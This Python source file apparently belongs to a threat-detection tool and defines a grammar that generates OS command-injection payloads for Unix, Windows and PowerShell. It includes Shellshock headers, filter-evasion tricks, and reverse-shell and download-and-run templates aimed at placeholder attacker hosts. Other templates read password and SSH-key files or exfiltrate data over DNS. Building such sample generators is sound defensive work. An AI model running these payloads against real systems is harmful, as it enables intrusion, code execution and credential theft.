"""Operating system command injection: Unix, Windows, PowerShell; separators, evasions, reverse shells, downloads."""

from threatclip.pairs.grammar.start import PARAM, Start

STARTS = (
    Start("attack", weight=14, places=PARAM),
    Start("evaded", weight=5, places=PARAM),
    Start("direct", weight=5, places=("param", "formbody")),
    Start("shock", weight=1, places=("header",)),
    Start("fragment", weight=4, places=PARAM),
    Start("tail_path", weight=1, places=("tail",)),
    Start("device", weight=3, places=("jsonbody",)),
    Start("soap", weight=1, places=("xml",)),
    Start("header_value", weight=1, places=("header", "cookie")),
    Start("name_attack", weight=1, places=("name",)),
)

TEXT = r"""
attack := *7 «left»«sep»«cmd»«after?40» ¦ *3 «sep»«cmd»«after?40» ¦ *3 «left»«subst» ¦ *2 «subst»
  ¦ «left»«quote»«sep»«cmd»«after» ¦ *2 «quote»«sep»«cmd»«sep»«quote» ¦ «left»«option» ¦ «left»«sep»«win_cmd»«after?30»
  ¦ «left»«wsep»«win_cmd» ¦ «left»«nlsep»«cmd»
cmd := *12 «unix_cmd» ¦ *3 «unix_info» ¦ *2 «unix_delay» ¦ *2 «unix_out» ¦ «win_cmd»
left := *3 127.0.0.1 ¦ *2 «ip» ¦ localhost ¦ «int» ¦ «small» ¦ «word» ¦ «rand» ¦ «site» ¦ «priv» ¦ admin ¦ test ¦ a
  ¦ «word».«=txt~jpg~pdf~zip~tar~cfg» ¦ eth0 ¦ /dev/null ¦ -1 ¦ «coined» ¦ «scheme»://«site»/ ¦ root ¦ en ¦ 192.0.2.53
  ¦ ::1 ¦ auto ¦ UTC ¦ «word»@«coined».test ¦ «ip» ¦ null ¦ x
sep := *5 ; ¦ *3 | ¦ *2 && ¦ *2 & ¦ *2 || ¦ ;«sp» ¦ «sp»|«sp» ¦ «sp»&&«sp» ¦ «sp»||«sp» ¦ «sp»;«sp» ¦ «sp»&«sp»
  ¦ *2 «nl» ¦ %0a ¦ |& ¦ ;; ¦ %3B ¦ %26%26 ¦ %7C ¦ «cr»«nl» ¦ %0d%0a ¦ ;|| ¦ &;& ¦ ) ; ¦ );«sp» ¦ ); ¦ }; ¦ «nul»;
  ¦ >&2; ¦ 2>&1; ¦ ; /*«rand»*/«sp» ¦ !; ¦ «sp»| ¦ ^| ¦ | «=sudo~nohup~exec~command~builtin»«sp»
  ¦ ;«=exec~eval~command~nohup~time~env»«sp» ¦ «sp»;«tab»
wsep := *3 & ¦ && ¦ | ¦ || ¦ "&«sp» ¦ "&&«sp» ¦ %26 ¦ ^& ¦ %0a ¦ ;«sp» ¦ "|«sp» ¦ %1a
nlsep := «nl» ¦ %0a ¦ %0A%0D ¦ \n ¦ %250a ¦ «cr»«nl» ¦ %E2%80%A8 ¦ \r\n
quote := *2 " ¦ *2 ' ¦ ` ¦ \" ¦ ") ¦ ') ¦ "} ¦ '' ¦ \' ¦ "; ¦ ')
after := *2 # ¦ *2 ; ¦ & ¦ || ¦ «sp»# ¦ «sp»2>&1 ¦ «sp»> /dev/null ¦ «sp»>/dev/null 2>&1 & ¦ | ¦ ;# ¦ «nl» ¦ «sp»&&
  ¦ %00 ¦ «sp»|| «word» ¦ ;«rand» ¦ «sp»> «web_root»/«rand».txt ¦ «sp»>/tmp/«rand» ¦ ;echo «rand» ¦ & echo «rand»&
  ¦ «sp»// ¦ «sp»; echo ¦ `` ¦ «sp»;: ¦ «sp»|xxd -p ¦ «sp»| base64 ¦ «sp»| tr -d '\n' ¦ >/var/www/«rand».html
subst := *4 $(«cmd») ¦ *4 `«cmd»` ¦ "$(«cmd»)" ¦ '$(«cmd»)' ¦ "`«cmd»`" ¦ ${«cmd»} ¦ $(«cmd»)«rand» ¦ <(«cmd»)
  ¦ >(«cmd») ¦ $[«cmd»] ¦ %60«cmd»%60 ¦ %24%28«cmd»%29 ¦ @(«cmd») ¦ $(($(«cmd»))) ¦ {{«cmd»}} ¦ |`«cmd»` ¦ '`«cmd»`'
  ¦ ';`«cmd»`;' ¦ ";$(«cmd»);" ¦ %(«cmd») ¦ («cmd») ¦ || `«cmd»` # ¦ '"`«cmd»`"' ¦ "'$(«cmd»)'" ¦ 0<&1;$(«cmd»)
  ¦ $(IFS=_;cmd='«cmd»';$cmd) ¦ \`«cmd»\` ¦ {«cmd»;} ¦ ${IFS}`«cmd»`
option := «sp»-o ProxyCommand="«cmd»" ¦ «sp»--checkpoint-action=exec='«cmd»' ¦ «sp»-exec «unix_bin» {} \;
  ¦ «sp»--use-askpass=«bin_dir»«unix_bin» ¦ «sp»-e 'system("«unix_info»")' ¦ -oProxyCommand=«cmd|ifs»
  ¦ --upload-pack="«cmd»" ¦ «sp»-O «web_root»/«rand».php «url» ¦ --output=«web_root»/«rand».php
  ¦ «sp»-T «unix_file» «url» ¦ --post-file=«unix_file» ¦ -f«unix_file» ¦ --config=«url» ¦ ext::sh -c «cmd|ifs»
  ¦ «sp»-be "${run{«bin_dir»«unix_bin»}}" ¦ «sp»-X«web_root»/«rand».php ¦ -OQueueDirectory=/tmp -X«web_root»/«rand».php
  ¦ «sp»-c '«cmd»' ¦ --rsh='«cmd»' ¦ «sp»--to-command='«cmd»'
direct := *6 «unix_cmd» ¦ *2 «win_cmd» ¦ cmd=«unix_info» ¦ «=cmd~command~exec~ping~run~c~execute~shell~0»=«unix_cmd»
  ¦ sh -c "«cmd»" ¦ /bin/sh -c «cmd» ¦ cmd.exe /c «win_info» ¦ «bin_dir»«unix_info» ¦ sudo «unix_info»
  ¦ ["«unix_bin»","-c","«unix_info»"] ¦ ping -c «small» «attacker» ¦ «unix_info»;«unix_info»
  ¦ «unix_echo» && «unix_info» ¦ exec('«unix_info»') ¦ system("«unix_info»") ¦ popen('«unix_cmd»')
shock := *3 () { :;}; «bin_dir»«unix_info» ¦ () { :; }; echo; echo; /bin/bash -c '«unix_cmd»'
  ¦ () { «$i:rand»;}; echo Content-Type: text/html; echo; «unix_cmd» ¦ () { (a)=>\' «unix_bin»
  ¦ () { _; } >_[$($())] { echo; «unix_cmd»; } ¦ () { :;};«unix_out» ¦ () { test;};echo "«rand»: $(«unix_info»)"
  ¦ () { foo;};echo; «bin_dir»cat «unix_file»
evaded := *3 «left»;«cmd|ifs» ¦ *2 |«cmd|ifs» ¦ *2 `«cmd|ifs»` ¦ *2 $(«cmd|ifs») ¦ *2 «left»;«unix_info|quotes»
  ¦ «left»|«unix_info|quotes|ifs» ¦ «left»;«brace_cmd» ¦ «left»;«globbed» ¦ «left»;«varcmd» ¦ «left»|«piped»
  ¦ «sep»«piped» ¦ «left»&«win_info|caret» ¦ «left»&«winvar» ¦ *2 «attack|urlsome» ¦ «attack|urlall» ¦ «attack|url»
  ¦ «attack|url2» ¦ «attack|b64» ¦ ;«varcmd» ¦ $(«varcmd») ¦ `«globbed»` ¦ |«brace_cmd» ¦ «left»%0a«cmd|ifs»
  ¦ «left»;«unix_info|case» ¦ «sep»«globbed»
brace_cmd := {«unix_bin»,«unix_file»} ¦ {cat,«unix_file»} ¦ {ls,-la,«unix_dir»} ¦ {wget,«url»} ¦ {curl,-s,«url»}
  ¦ {ping,-c,«small»,«attacker»} ¦ {nc,«attacker»,«port»} ¦ {echo,«unix_cmd|b64»}|{base64,-d}|{bash,-i}
  ¦ {,/bin/«unix_bin»,} ¦ bash -c {echo,«unix_cmd|b64»}|{base64,-d}|{bash,-i} ¦ {sleep,«tens»} ¦ {u,n}ame${IFS}-a
globbed := «bin_dir|glob»«=c?t~ca?~/???/c?t~[c]at~c[a]t~?at~l?~/b?n/?s~/?in/l*~who?mi~/usr/bin/wh*mi» «unix_file|glob»
  ¦ /???/??t «unix_file|glob» ¦ /bin/c* /e*c/p*d ¦ cat /et?/p?ss?? ¦ /b[i]n/c[a]t «unix_file» ¦ /???/b??h -c «unix_bin»
  ¦ /usr/bin/n[c] «attacker» «port» ¦ /bin/[^b-z]at «unix_file» ¦ cat $(echo «unix_file|quotes»)
  ¦ /???/n? -e /???/b??h «attacker» «port» ¦ tail -n1 /e[s-u]c/p[a-b]sswd
varcmd := a=«=c;b=at~ca;b=t~w;b=hoami~i;b=d»;$a$b «unix_file» ¦ «$v:abc»=«unix_bin»;$«$v» «unix_file»
  ¦ ${PATH:0:1}bin${PATH:0:1}«unix_bin» ¦ ${HOME:0:1}etc${HOME:0:1}passwd ¦ ca${«rand»}t «unix_file» ¦ c$@at «unix_file»
  ¦ w$()ho$()ami ¦ who$*ami ¦ $0<<<«unix_info» ¦ cat${IFS}${PWD%%[a-z]*}etc${PWD%%[a-z]*}passwd
  ¦ $'\x«=63\x61\x74~69\x64~6c\x73»' «unix_file» ¦ $'«unix_bin|slasho»' ¦ $(printf '«unix_info|slasho»')
  ¦ $(echo «unix_info|hex»|xxd -r -p) ¦ CMD=$'«unix_info|slashx»';$CMD ¦ i""d ¦ cat<«unix_file»
  ¦ IFS=,;`cat<<<«unix_bin»,«unix_file»` ¦ ${SHELLOPTS:3:1}at «unix_file» ¦ $(tr '[A-Z]' '[a-z]'<<<"«unix_bin|upper»")
  ¦ "e"'c'h"o" «rand» ¦ p\i\n\g -c«small» «attacker» ¦ while read l;do echo $l;done<«unix_file»
  ¦ for i in $(ls «unix_dir»);do echo $i;done ¦ if [ $(id -u) -eq 0 ];then «unix_delay»;fi
  ¦ [ «small» -eq «small» ] && «unix_delay» ¦ if [ $(whoami|cut -c «small») == «letter» ];then sleep «small»;fi
  ¦ until «unix_bin»;do sleep 1;done ¦ test -f «unix_file» && «unix_delay» ¦ xargs -a «unix_file» echo
  ¦ trap '«unix_info»' EXIT ¦ set -- «unix_bin»;$1 ¦ alias «ab»='«unix_bin»' ¦ export «coined|upper»=«rand»
  ¦ read -r «ab» < «unix_file» ¦ LD_PRELOAD=/tmp/«rand».so «unix_bin» ¦ PATH=/tmp:$PATH «unix_bin»
  ¦ env X='() { :;}; «unix_bin»' bash -c :
piped := echo «unix_cmd|b64» | base64 -d | «=sh~bash~/bin/sh» ¦ echo «unix_cmd|b64»|base64 --decode|bash
  ¦ echo '«unix_info|rev»'|rev|sh ¦ base64 -d<<<«unix_cmd|b64»|sh ¦ printf "«unix_info|slashx»"|bash
  ¦ echo -e "«unix_info|slashx»"|sh ¦ xxd -r -p<<<«unix_info|hex»|sh ¦ python -c "import os;os.system('«unix_info»')"
  ¦ perl -e 'print `«unix_info»`' ¦ perl -e 'system("«unix_info»")' ¦ php -r "system('«unix_info»');"
  ¦ ruby -e 'puts `«unix_info»`' ¦ python3 -c "import subprocess;print(subprocess.getoutput('«unix_info»'))"
  ¦ node -e "require('child_process').exec('«unix_cmd»')" ¦ lua -e 'os.execute("«unix_info»")'
  ¦ awk 'BEGIN{system("«unix_info»")}' ¦ find . -exec «unix_bin» \; ¦ vim -c ':!«unix_info»'
  ¦ tclsh <<< 'exec «unix_bin»' ¦ echo «unix_info» | at now ¦ openssl enc -base64 -d <<< «unix_info|b64» | sh
  ¦ expect -c 'spawn «unix_bin»;interact' ¦ gdb -nx -ex '!«unix_bin»' -ex quit ¦ sed -n '1e «unix_info»' /etc/hosts
  ¦ base32 -d<<<«unix_info|b32»|sh ¦ echo «unix_info»|tee «web_root»/«rand».php ¦ echo «unix_info» | busybox sh
  ¦ curl «url» | tar xz
winvar := %COMSPEC% /c «win_info» ¦ cmd /v:on /c "set x=«=who&& call %x%ami~ip&& call %x%config»"
  ¦ powershell -enc «ps_code|u16b64» ¦ %PROGRAMFILES:~10,1%«win_info» ¦ for /f %i in ('whoami') do nslookup %i.«zone»
  ¦ p^o^w^e^r^s^h^e^l^l -c «ps_code» ¦ cmd /c "«win_info|caret»" ¦ w"h"o"am"i
  ¦ for /l %i in (1,1,«tens») do ping -n 2 127.0.0.1 ¦ forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe
fragment := *3 «unix_bin» «unix_file» ¦ *2 «win_word» ¦ «win_word» «win_arg» ¦ & «win_word» «win_arg» ¦ |«win_word»
  ¦ «ps_alias» «word» ¦ ;«ps_alias» «url» ¦ $env:«=PATH~USERNAME~TEMP~COMPUTERNAME»
  ¦ %«=USERNAME~PATH~OS~TEMP~APPDATA~SYSTEMROOT~WINDIR~PROGRAMFILES»% ¦ ${«coined|upper»}
  ¦ $«=USER~SHELL~PWD~OLDPWD~HOSTNAME~RANDOM~UID~PPID~IFS~BASH_ENV~PS1» ¦ ~/ ¦ ~root ¦ !! ¦ [[ -e «unix_file» ]]
  ¦ («unix_bin») ¦ {«unix_bin»;} ¦ $((«int»+«int»)) ¦ *2 «unix_bin» «unix_arg» ¦ *2 «bin_dir»«unix_bin» ¦ ;«unix_bin»
  ¦ |«unix_bin» ¦ &«unix_bin» ¦ `«unix_bin»` ¦ $(«unix_bin») ¦ «unix_bin» -«letter» ¦ «unix_bin» --help
  ¦ /dev/tcp/«ip»/«port» ¦ /dev/udp/«attacker»/«port» ¦ ${IFS} ¦ $IFS$9«unix_bin» ¦ =() { ¦ <«unix_file»
  ¦ >«web_root»/«rand» ¦ «unix_file» ¦ ~/.ssh/«=id_rsa~id_ed25519~authorized_keys»
  ¦ .«=bash_history~bashrc~netrc~pgpass~viminfo~zshrc» ¦ cmd.exe ¦ cmd /c ¦ powershell.exe ¦ «ps_cmdlet»
  ¦ «ps_cmdlet» «word» ¦ %COMSPEC% ¦ $HOME ¦ $PATH ¦ «unix_bin|quotes» ¦ «unix_bin|glob» «unix_file|glob» ¦ «win_bin»
  ¦ «win_bin» /c ¦ !-1 ¦ «unix_bin» -c «unix_bin» ¦ «unix_bin»|«unix_bin» ¦ «unix_bin»;«unix_bin»
  ¦ «unix_bin» && «unix_bin» ¦ for «ab» in «word»;do «unix_bin»;done ¦ «unix_bin» $(«unix_bin») ¦ <<<«word»
  ¦ {«unix_bin»,«word»}
  ¦ «=sudo~time~nice~nohup~env~exec~xargs~stdbuf~strace~watch~timeout 5~eval~command~builtin~setsid» «unix_bin»
  ¦ «unix_bin» -e «bin_dir»sh ¦ rev<<<'«unix_info|rev»' ¦ $'\«oct»'«unix_bin» ¦ «unix_bin»${IFS}«unix_file»
  ¦ /bin/«unix_bin|quotes» ¦ /?in/«unix_bin|glob» ¦ ping -c «small» «ip» ¦ «unix_bin»<<EOF ¦ «unix_bin» /etc/«etc_file»
  ¦ Invoke-«=Expression~Command~WebRequest~Mimikatz~Shellcode~ReflectivePEInjection» ¦ -enc «b40» ¦ «unix_bin» 2>&1
win_word := assoc ¦ attrib ¦ cacls ¦ call ¦ cd ¦ chdir ¦ chkdsk ¦ cmdkey ¦ copy ¦ del ¦ dir ¦ echo ¦ erase ¦ expand ¦ fc
  ¦ find ¦ findstr ¦ for ¦ format ¦ fsutil ¦ ftype ¦ getmac ¦ gpresult ¦ hostname ¦ if ¦ ipconfig ¦ label ¦ md ¦ mkdir
  ¦ mklink ¦ mode ¦ more ¦ mountvol ¦ move ¦ msg ¦ nbtstat ¦ net ¦ netstat ¦ nslookup ¦ path ¦ pathping ¦ ping ¦ popd
  ¦ powercfg ¦ print ¦ prompt ¦ pushd ¦ rd ¦ recover ¦ reg ¦ rem ¦ ren ¦ replace ¦ rmdir ¦ robocopy ¦ route ¦ runas ¦ sc
  ¦ schtasks ¦ set ¦ setx ¦ shutdown ¦ sort ¦ start ¦ subst ¦ systeminfo ¦ takeown ¦ taskkill ¦ tasklist ¦ time ¦ title
  ¦ tracert ¦ tree ¦ tskill ¦ type ¦ ver ¦ verify ¦ vol ¦ wevtutil ¦ where ¦ whoami ¦ wmic ¦ xcopy
win_arg := C:\ ¦ /? ¦ /all ¦ /s ¦ /c «win_word» ¦ C:\«win_path» ¦ %TEMP%\«rand».txt ¦ «word».txt ¦ \\«attacker»\«ab»
  ¦ /q /f *.* ¦ user ¦ «priv» ¦ .\«word»
ps_alias := iex ¦ iwr ¦ irm ¦ gci ¦ gc ¦ gps ¦ gwmi ¦ gsv ¦ sal ¦ saps ¦ spps ¦ ni ¦ ri ¦ sc ¦ sleep ¦ ls ¦ cat ¦ icm
  ¦ nsn ¦ etsn ¦ rvpa ¦ epcsv ¦ fl ¦ ft ¦ ogv ¦ sls ¦ curl
unix_arg := -la ¦ -r ¦ -e /bin/sh ¦ -n «int» ¦ --version ¦ -c «small» «ip» ¦ /tmp/«rand» ¦ ../«word» ¦ .
  ¦ -i «unix_file» ¦ *.«=php~txt~conf~log» ¦ «url» ¦ -O - «url» ¦ 777 «rand» ¦ -rf /tmp/«rand» ¦ -9 «int»
  ¦ «word» «word» ¦ -p «port»
ps_cmdlet := Get-Process ¦ Get-Content ¦ Get-ChildItem ¦ Get-Service ¦ Get-WmiObject ¦ Get-Item ¦ Get-Help ¦ Get-Command
  ¦ Get-Credential ¦ Invoke-Expression ¦ Invoke-Command ¦ Invoke-WebRequest ¦ Start-Process ¦ Start-Sleep ¦ Stop-Process
  ¦ New-Object ¦ Set-ExecutionPolicy ¦ Set-Content ¦ Copy-Item ¦ Remove-Item ¦ ConvertTo-SecureString ¦ Out-File
  ¦ Test-NetConnection ¦ Add-Type ¦ Enter-PSSession ¦ Restart-Computer ¦ Import-Module ¦ ForEach-Object ¦ Where-Object
  ¦ Write-Output ¦ Start-BitsTransfer ¦ Export-Csv ¦ Get-EventLog ¦ Get-ADUser
win_bin := certutil.exe ¦ bitsadmin.exe ¦ mshta.exe ¦ rundll32.exe ¦ regsvr32.exe ¦ wmic.exe ¦ cscript.exe ¦ wscript.exe
  ¦ net.exe ¦ netsh.exe ¦ sc.exe ¦ schtasks.exe ¦ tasklist.exe ¦ taskkill.exe ¦ reg.exe ¦ msiexec.exe ¦ ftp.exe
  ¦ nslookup.exe ¦ ipconfig.exe ¦ systeminfo.exe ¦ whoami.exe ¦ attrib.exe ¦ cacls.exe ¦ icacls.exe ¦ findstr.exe
  ¦ xcopy.exe ¦ installutil.exe ¦ msbuild.exe ¦ odbcconf.exe ¦ psexec.exe ¦ vssadmin.exe ¦ wevtutil.exe ¦ bcdedit.exe
  ¦ at.exe ¦ calc.exe ¦ nltest.exe ¦ qwinsta.exe ¦ debug.exe ¦ route.exe ¦ tracert.exe
tail_path := /«word»/;«cmd|ifs» ¦ /«word»/`«cmd|ifs»` ¦ /cgi-bin/;«cmd|ifs» ¦ /cgi-bin/«word».cgi;«cmd|ifs»
  ¦ /$(«cmd|ifs») ¦ /«word»%0a«cmd|ifs»%0a ¦ /|«cmd|ifs» ¦ /«word»';«cmd|ifs»;' ¦ /bin/sh ¦ /«ip»;«cmd|ifs»/«small»
device := {"method":"«word»","params":{"«name»":"«attack|js»"}}
  ¦ {"«name»":"«word»","«=cmd~command~action~operation»":"«unix_cmd|js»"}
  ¦ {"«=host~ip~addr~target~server~url~ping_address»":"«attack|js»","count":«small»}
  ¦ {"jsonrpc":"2.0","method":"«word».«word»","params":["«word»","«attack|js»"],"id":«small»}
  ¦ {"«name»":{"«name»":"`«cmd|js»`"}} ¦ {"id":«small»,"args":["-c","«unix_cmd|js»"],"exec":"/bin/«=sh~bash»"}
  ¦ @2021 {"command":"run","utilCmdArgs":"-c '«unix_cmd|js»'"} ¦ {"task":{"script":"«unix_cmd|js»"},"name":"«rand»"}
  ¦ {"AttachStdout":true,"Cmd":["/bin/sh","-c","«unix_cmd|js»"],"Image":"«word»"}
soap := <?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><u:«$a:coined|cap» xmlns:u="urn:«word»"><New«$b:word|cap»>`«cmd|html»`</New«$b|cap»></u:«$a|cap»></soap:Body></soap:Envelope>
  ¦ <?xml version="1.0"?><request><«$t:word»>«left»;«cmd|html»</«$t»></request>
  ¦ <methodCall><methodName>«word».«word»</methodName><params><param><value><string>«attack|html»</string></value></param></params></methodCall>
  ¦ <?xml version="1.0" encoding="utf-8"?><root><«$t:name»>$(«cmd|html»)</«$t»></root>
header_value := `«cmd»` ¦ «rand»;«cmd»; ¦ $(«cmd») ¦ ";«cmd»;" ¦ «left»|«cmd» ¦ '; «cmd» # ¦ «ip»;«cmd» ¦ |«cmd»|
  ¦ () { ignored;};«cmd» ¦ «shock»
name_attack := «word»;«cmd|ifs»; ¦ `«unix_info»` ¦ $(«unix_info») ¦ |«unix_info» ¦ «word»%0a«unix_bin»
  ¦ «word»[$(«unix_bin»)]
"""  # noqa: E501
